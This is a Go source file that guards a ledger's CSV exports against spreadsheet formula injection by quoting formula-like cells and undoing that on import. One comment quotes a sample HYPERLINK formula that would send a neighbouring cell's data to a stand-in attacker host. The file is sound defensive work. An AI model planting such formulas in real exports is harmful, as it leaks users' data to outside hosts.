package ledger

import (
	"regexp"
	"strings"
)

// Formulas in CSV. A spreadsheet program opening a CSV file runs a cell
// that starts with "=", "+", "-" or "@" as a formula, and one that starts
// with a tab or carriage return may be read as one after the space is
// dropped: a record named =HYPERLINK("http://evil.example/?x="&A1,"详情")
// would become a link that sends the neighbouring cell away. So CSV
// exports write such a cell with a leading "'", as OWASP advises (CSV
// injection); Excel and WPS then show it as text. A negative number
// ("-3", "-0.5") is left as it is.
//
// A cell that starts with quotes before such a character gets one more
// quote, so that reading back (which drops one quote from such a cell)
// gives every value exactly as it was: "'=x" is written "''=x".

var negativeNumber = regexp.MustCompile(`^-(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$`)

// formulaLike reports whether a spreadsheet may run v as a formula.
func formulaLike(v string) bool {
	if v == "" {
		return false
	}
	switch v[0] {
	case '=', '+', '@', '\t', '\r':
		return true
	case '-':
		return !negativeNumber.MatchString(v)
	}
	return false
}

// quoted reports whether v is written with a leading "'": it is formula
// like once its leading quotes are dropped.
func quoted(v string) bool {
	return formulaLike(strings.TrimLeft(v, "'"))
}

// csvCell is v as a CSV export writes it.
func csvCell(v string) string {
	if quoted(v) {
		return "'" + v
	}
	return v
}

// fromCSVCell undoes csvCell: it drops the quote an export added, and
// reports whether there was one.
func fromCSVCell(v string) (string, bool) {
	if rest, ok := strings.CutPrefix(v, "'"); ok && quoted(rest) {
		return rest, true
	}
	return v, false
}
